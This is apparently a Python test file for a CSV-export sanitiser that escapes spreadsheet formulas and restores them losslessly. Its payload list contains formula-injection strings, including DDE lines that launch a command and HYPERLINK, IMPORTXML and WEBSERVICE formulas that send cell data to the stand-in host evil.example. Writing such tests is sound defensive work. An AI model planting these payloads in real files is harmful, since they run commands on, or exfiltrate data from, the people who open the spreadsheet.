"""No exported cell is a formula, and no text is damaged on its way out and in."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from vigil.files.formula_safety import safe_cell, unsafe_cell

HARMLESS = [
    "",
    "+380441234567",
    "+380 44 123-45-67",
    "+1 (202) 555-0100",
    "-Omar Abdi",
    "+Anna",
    "- unknown",
    "-5",
    "-12.5",
    "-José María, Anna",
    "-عمر عبدي",
    "- अज्ञात",
    "O'Brien",
    "'quoted'",
    "a-b",
    "2019-03-08",
    "https://example.org/a?b=1&c=2",
    "first line\nsecond line",
    "50% of the price",
    "shot; died in hospital, 3 March",
]
PAYLOADS = [
    "=1+1",
    "@SUM(1)",
    "+A1",
    "-A1",
    "+$A$1",
    "-R1C1",
    "=cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-a,cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "-2+3+cmd|' /C calc'!D2",
    "+SUM(1)",
    "- SUM (1)",
    "\t=1",
    "\t",
    "\r=1",
    "\n=1",
    "\0=1",
    "\0harmless",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    ";=1",
    "x;=1",
    "x,=1",
    "x\t=1",
    "x\n=1",
    "x;@SUM(1)",
    "％",
    "＝1+1",
    "＠SUM(1)",
    "＋A1",
    "－A1",
    "'=1;=1",
    "+1*2",
    "-1^2",
    '+"a"&"b"',
    "-[1]Sheet1!A1",
    "-#REF!",
]

# The grammar of what is computed, written apart from the code: a cell, as any program may cut
# it, begins (after what is not seen) with a formula's start, or with a sign and a formula.
UNSEEN = r"[\s\x00-\x1f\u200b-\u200f\u2060\ufeff\u00ad\"]*"
FORMULA = re.compile(
    rf"{UNSEEN}(?:[=@＝＠＋－％﹢﹣﹦﹫﹪]|[+\-−](?=.*(?:[^\W\d_]\s*\(|[A-Za-z]\$?\d|[|!=@*^&<>\"\[\]{{}}#$:+])))",
    re.DOTALL,
)


def executable(cell: str) -> bool:
    pieces = [cell[start:] for start in [0, *(m.end() for m in re.finditer(r"[,;\t\r\n]", cell))]]
    return cell[:1] in set("\t\r\n\0") - {""} or any(FORMULA.match(piece) for piece in pieces)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text == unsafe_cell(text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_becomes_a_text_and_comes_back(text: str) -> None:
    assert executable(text) or text.startswith("'"), "the grammar of the test knows it too"
    assert safe_cell(text) != text
    assert not executable(safe_cell(text))
    assert unsafe_cell(safe_cell(text)) == text


PIECES = st.sampled_from([*"=@+-'\";,\t\n\r\0 |!(A1", "cmd", "Omar", "５", "＝", "́", "\u200b"])
TEXTS = st.one_of(st.text(), st.lists(PIECES, max_size=12).map("".join))


@given(TEXTS)
@example("'=1")
@example("''=1")
@example("'\t'=1")
def test_every_text_comes_back(text: str) -> None:
    assert unsafe_cell(safe_cell(text)) == text


@given(TEXTS)
def test_no_cell_of_a_csv_file_is_executable(text: str) -> None:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([safe_cell(text), "next"])
    (cell, after), *others = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert (after, others) == ("next", [])
    assert not executable(cell)
    assert unsafe_cell(cell) == text


@pytest.mark.parametrize("part", [",", "-,", "=,", "a1,", "-a,", "'-;", "- (\n"])
def test_a_cell_of_many_parts_is_written_at_once(part: str) -> None:
    # Each part was looked at with all that follows it: minutes for a text of 200,000 letters.
    text = part * 100_000
    assert unsafe_cell(safe_cell(text)) == text
